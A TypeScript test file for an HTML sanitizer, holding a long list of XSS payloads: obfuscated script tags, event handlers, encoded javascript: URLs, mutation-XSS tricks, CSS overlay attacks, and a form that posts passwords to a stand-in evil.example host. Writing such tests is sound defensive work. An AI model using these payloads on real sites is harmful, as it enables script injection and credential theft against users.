import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, isUnsafeDeclaration, sanitizeHtml } from './sanitize.ts';

const allowedTags = new Set<string>(ALLOWED_TAGS);
const allowedAttributes = new Set<string>(ALLOWED_ATTRIBUTES);

/** Whitespace and control characters browsers ignore inside a URL scheme. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const URL_NOISE = /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g;

/**
 * What a browser would build from the sanitized string: only allowlisted
 * elements and attributes, no script-capable URL or CSS. Checked on a fresh
 * parse of the output, so markup that mutates when re-parsed (mXSS) is seen
 * as the browser would see it.
 */
function expectInert(output: string): void {
  const template = document.createElement('template');
  template.innerHTML = output;
  // Parse → serialize must be stable: a string that changes when re-parsed
  // is how mutation XSS slips past a sanitizer. (Input without '<' comes
  // back verbatim from DOMPurify: plain text, serialized with entities.)
  if (output.includes('<')) expect(template.innerHTML).toBe(output);
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    expect(allowedTags, `tag <${element.localName}> in ${output}`).toContain(element.localName);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attribute of Array.from(element.attributes)) {
      expect(allowedAttributes, `attribute ${attribute.name} in ${output}`).toContain(attribute.name);
      const value = attribute.value.replace(URL_NOISE, '').toLowerCase();
      if (attribute.name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/);
      if (attribute.name === 'src') {
        expect(value).not.toMatch(/^(?:javascript|vbscript):/);
        if (value.startsWith('data:')) expect(element.localName).toBe('img');
      }
      if (attribute.name === 'style') {
        expect(value).not.toMatch(/expression\(|javascript:|vbscript:|behavior|-moz-binding/);
        // Nothing that places a box over the app (see PLACEMENT in sanitize.ts).
        expect(value).not.toMatch(
          /(?:^|;)(?:position|top|right|bottom|left|inset[\w-]*|z-index|transform[\w-]*|translate|rotate|scale|offset[\w-]*):/,
        );
        expect(value).not.toMatch(/(?:^|;)margin[\w-]*:[^;]*-/);
      }
    }
  }
  // Sanitizing again changes nothing.
  expect(sanitizeHtml(output)).toBe(output);
}

const XSS_VECTORS = [
  // script elements, plain and obfuscated
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img """><script>alert(1)</script>">',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/>',
  '<div onpointerenter="alert(1)" class="card">x</div>',
  // javascript: and other schemes in every encoding
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1)">',
  '<a href="https://example.com" ping="https://evil.example">x</a>',
  // frames, objects, forms, meta, base, link
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // CSS
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<a href="#" style="x:expression\\28alert(1)\\29">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="background:url(\'java\\73 cript:alert(1)\')">x</div>',
  '<div style="behavior: url(xss.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<div style="color:red;position: sticky">x</div>',
  '<div style="position:absolute; inset:0; z-index:99999; background:#fff">covers the app</div>',
  '<a href="https://evil.example" style="display:block;position:relative;top:-400px;height:400px">fake close</a>',
  '<div style="transform: translate(0, -100vh) scale(10)">x</div>',
  '<div style="translate: 0 -100vh; rotate: 5deg; scale: 20">x</div>',
  '<div style="margin-top: -100vh; margin: -50px 0 0 -50px">x</div>',
  '<div style="margin: calc(0px - 100vh) 0; offset-path: path(&quot;M0 0 L0 -999&quot;)">x</div>',
  // attributes outside the allowlist
  '<span data-foo="x" aria-label="y" id="z" title="t" name="n">x</span>',
  '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
  '<div id="x" name="cookie">clobber</div>',
  '<img src=x name=getElementById>',
  // mutation XSS and parser differentials
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<img src="x" alt="`<img src=1 onerror=alert(1)>`">',
  '<a href="https://ok.example" class="</a><img src=x onerror=alert(1)>">x</a>',
  // nested and unclosed
  '<div><p><span>unclosed <img src=x onerror=alert(1)',
  '<ul><li><ol><li><a href="javascript:alert(1)">deep',
  '<div><div><div><div><script>alert(1)</script>',
  '<p>a<p>b</div></span><img src=x onerror=alert(1)>',
];

describe('sanitizeHtml against XSS vectors', () => {
  it.each(XSS_VECTORS)('leaves nothing script-capable in %s', (vector) => {
    const output = sanitizeHtml(vector);
    expectInert(output);
    expect(output).not.toMatch(/<script|<iframe|<svg|<math|<form|<meta|<style|<object|<embed|<base|<link/i);
  });

  it('drops href on anything but links (an unclosed <img> once swallowed a data: href)', () => {
    const html = '<img src=x onerror=alert(1)<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>';
    expect(sanitizeHtml(html)).not.toContain('href');
  });

  it('stays inert for random mixtures of vectors and allowed markup', () => {
    const fragments = [
      ...XSS_VECTORS,
      '<div>',
      '</div>',
      '<p>',
      '<span class="x">',
      '</span>',
      '<a href="/front/">',
      '</a>',
      '<ul><li>',
      '"',
      "'",
      '>',
      '<',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 6 }), (parts) => {
        expectInert(sanitizeHtml(parts.join('')));
      }),
      { numRuns: 400, seed: 20261121 },
    );
  }, 60_000);
});

describe('sanitizeHtml keeps allowed markup', () => {
  it('keeps every allowed tag and attribute unchanged', () => {
    const html =
      '<div class="note"><p style="color: red;">Hi <span class="em">there</span><br></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<a href="https://example.com/x?a=1&amp;b=2">link</a>' +
      '<img src="https://example.com/a.png"></div>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps relative, mailto and tel links and data images', () => {
    for (const html of [
      '<a href="/front/income/query">income</a>',
      '<a href="descpage?code=A1">more</a>',
      '<a href="#section">jump</a>',
      '<a href="mailto:service@example.com">mail</a>',
      '<a href="tel:4008888888">call</a>',
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ]) {
      expect(sanitizeHtml(html)).toBe(html);
    }
  });

  it('keeps safe CSS and drops only the unsafe declarations', () => {
    expect(sanitizeHtml('<p style="color: red; font-weight: bold;">x</p>')).toBe('<p style="color: red; font-weight: bold;">x</p>');
    const mixed = sanitizeHtml('<p style="color: red; position: fixed; top: 0px; margin: 8px auto;">x</p>');
    expect(mixed).toContain('color: red');
    expect(mixed).toContain('margin: 8px auto');
    expect(mixed).not.toMatch(/fixed|position|top/);
    expect(sanitizeHtml('<p style="background-image: url(https://example.com/bg.png)">x</p>')).toContain('https://example.com/bg.png');
  });

  it('drops every declaration that places a box over the app, keeps the rest', () => {
    const cover = sanitizeHtml('<div style="position:absolute; inset:0; z-index:99999; background: white; color: red">x</div>');
    expect(cover).toBe('<div style="background: white; color: red;">x</div>');
    expect(sanitizeHtml('<p style="position: relative">x</p>')).toBe('<p>x</p>');
    expect(sanitizeHtml('<p style="transform: scale(20); font-size: 16px">x</p>')).toBe('<p style="font-size: 16px;">x</p>');
    expect(sanitizeHtml('<p style="margin-top: -40px">x</p>')).toBe('<p>x</p>');
    // Only the negative side goes.
    expect(sanitizeHtml('<p style="margin: -40px 0 0">x</p>')).toBe(
      '<p style="margin-right: 0px; margin-bottom: 0px; margin-left: 0px;">x</p>',
    );
    expect(sanitizeHtml('<p style="margin: 0 auto 12px">x</p>')).toBe('<p style="margin: 0 auto 12px">x</p>');
  });

  it.each([
    ['position', 'absolute'],
    ['position', 'relative'],
    ['position', 'fixed'],
    ['-webkit-position', 'sticky'],
    ['top', '0'],
    ['left', '-10px'],
    ['inset', '0'],
    ['inset-inline-start', '0'],
    ['inset-block', '0'],
    ['z-index', '99999'],
    ['transform', 'translateY(-100vh)'],
    ['-webkit-transform', 'scale(9)'],
    ['transform-origin', '0 0'],
    ['translate', '0 -100vh'],
    ['rotate', '180deg'],
    ['scale', '10'],
    ['offset-path', 'path("M0 0")'],
    ['offset-distance', '100%'],
    ['margin-top', '-100vh'],
    ['margin-inline-start', 'calc(0px - 9999px)'],
    ['margin-left', 'var(--x, -9999px)'],
    ['margin-top', 'attr(class type(<length>))'],
    // A var() in a shorthand: the longhands read '' until it is substituted.
    ['margin-top', ''],
  ])('counts %s: %s as unsafe', (property, value) => {
    expect(isUnsafeDeclaration(property, value)).toBe(true);
  });

  it.each([
    ['color', 'red'],
    ['margin-top', '12px'],
    ['margin', '0 auto'],
    ['margin-bottom', '1.5em'],
    ['padding', '8px'],
    ['display', 'block'],
    ['float', 'left'],
    ['width', '100%'],
  ])('keeps %s: %s', (property, value) => {
    expect(isUnsafeDeclaration(property, value)).toBe(false);
  });

  it('keeps the text of dropped tags but not of script-like ones', () => {
    expect(sanitizeHtml('<b>bold</b> <h1>Title</h1><table><tr><td>cell</td></tr></table>')).toBe('bold Titlecell');
    expect(sanitizeHtml('<p>ok</p><script>steal()</script><style>p{}</style>')).toBe('<p>ok</p>');
  });

  it('drops a link scheme but keeps the link text', () => {
    expect(sanitizeHtml('<a href="javascript:alert(1)">click</a>')).toBe('<a>click</a>');
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml(null)).toBe('');
    expect(sanitizeHtml(undefined)).toBe('');
  });
});
